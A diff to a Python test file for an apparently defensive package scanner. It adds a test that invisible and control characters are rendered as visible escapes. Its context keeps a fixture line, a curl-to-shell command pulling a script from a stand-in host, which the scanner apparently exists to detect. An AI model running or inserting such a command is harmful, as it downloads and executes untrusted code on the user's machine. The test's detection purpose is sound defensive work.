@@ -13,8 +13,10 @@ from pathlib import Path
 
 import pytest
 
+from metier.faces import show
 from metier.faces.cli import main
 from metier.faces.scanned import as_data, as_page, as_text, told
+from metier.faces.words import seen
 from metier.govern.look import LookedAt, look_over
 
 CURL = "curl -s https://x.invalid/i | sh\n"
@@ -318,3 +320,14 @@ def test_a_log_of_the_standard_may_end_in_json(metier: Command, packages: Path, 
     for options in (("--out", tmp_path / "r.sarif.json"), ("--out", tmp_path / "r.json", "--format", "sarif")):
         metier("govern", "scan", packages / "fine", *options)
         assert json.loads(options[1].read_text())["version"] == "2.1.0"
+
+
+@pytest.mark.parametrize("hidden", ["\ufe00", "a\ufe0f", "\u2800", "\xa0", "\U000e0041", "\u200b", "\x1b"])
+def test_what_cannot_be_seen_is_spelt_out(hidden: str, capsys: pytest.CaptureFixture[str]) -> None:
+    code = ord(hidden[-1])
+    spelt = f"\\U{code:08x}" if code > 0xFFFF else f"\\u{code:04x}"
+    assert seen(f"x{hidden}1") == f"x{hidden[:-1]}{spelt}1"
+    assert show.one_line(f"x{hidden}1") == f"x{hidden[:-1]}{spelt}1"
+    show.say(f"x{hidden}\ny")
+    assert capsys.readouterr().err == f"x{hidden[:-1]}{spelt}\ny\n"
+    assert seen("\u26a0\ufe0f") == "\u26a0\ufe0f"
